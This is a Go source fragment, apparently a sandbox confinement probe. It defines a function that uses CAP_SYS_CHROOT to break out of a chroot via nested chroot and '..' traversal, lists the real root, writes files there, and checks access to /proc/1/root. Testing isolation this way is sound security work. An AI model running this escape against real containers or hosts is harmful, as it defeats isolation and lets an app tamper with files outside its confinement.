package main

import (
	"fmt"
	"os"
	"sort"
	"strings"
	"syscall"
)

// escape WRITE... tries the chroot escape an app root with CAP_SYS_CHROOT
// has: chroot into a directory of its own, climb out of it with ".." (the
// kernel stops ".." only at the process's root, which is now below), and
// chroot "." wherever that ends. It then prints what "/" holds there
// ("root: NAME NAME..."), and for each path given tries to create it
// ("wrote PATH" or "cannot write PATH: ERROR"). Last it tries /proc/1/root,
// PID 1's root, from the app's own root ("proc1: ...").
func escape(writes []string) int {
	self, err := os.Open("/")
	if err != nil {
		return fail(err)
	}
	defer self.Close()
	dir, err := os.MkdirTemp("/tmp", "escape")
	if err != nil {
		return fail(err)
	}
	defer os.Remove(dir)
	if err := syscall.Chroot(dir); err != nil {
		return fail(fmt.Errorf("chroot %s: %w", dir, err))
	}
	// The working directory is still outside the new root.
	for range 64 {
		if err := os.Chdir(".."); err != nil {
			return fail(err)
		}
	}
	if err := syscall.Chroot("."); err != nil {
		return fail(fmt.Errorf("chroot .: %w", err))
	}
	ents, err := os.ReadDir("/")
	if err != nil {
		return fail(err)
	}
	var names []string
	for _, e := range ents {
		names = append(names, e.Name())
	}
	sort.Strings(names)
	fmt.Println("root: " + strings.Join(names, " "))
	for _, w := range writes {
		if err := os.WriteFile(w, []byte("escaped\n"), 0o644); err != nil {
			fmt.Printf("cannot write %s: %v\n", w, err)
		} else {
			fmt.Printf("wrote %s\n", w)
		}
	}
	// Back to the app's own root for the /proc it mounted.
	if err := self.Chdir(); err != nil {
		return fail(err)
	}
	if err := syscall.Chroot("."); err != nil {
		return fail(err)
	}
	if _, err := os.ReadDir("/proc/1/root/"); err != nil {
		fmt.Printf("proc1: %v\n", err)
	} else {
		fmt.Println("proc1: readable")
	}
	return 0
}
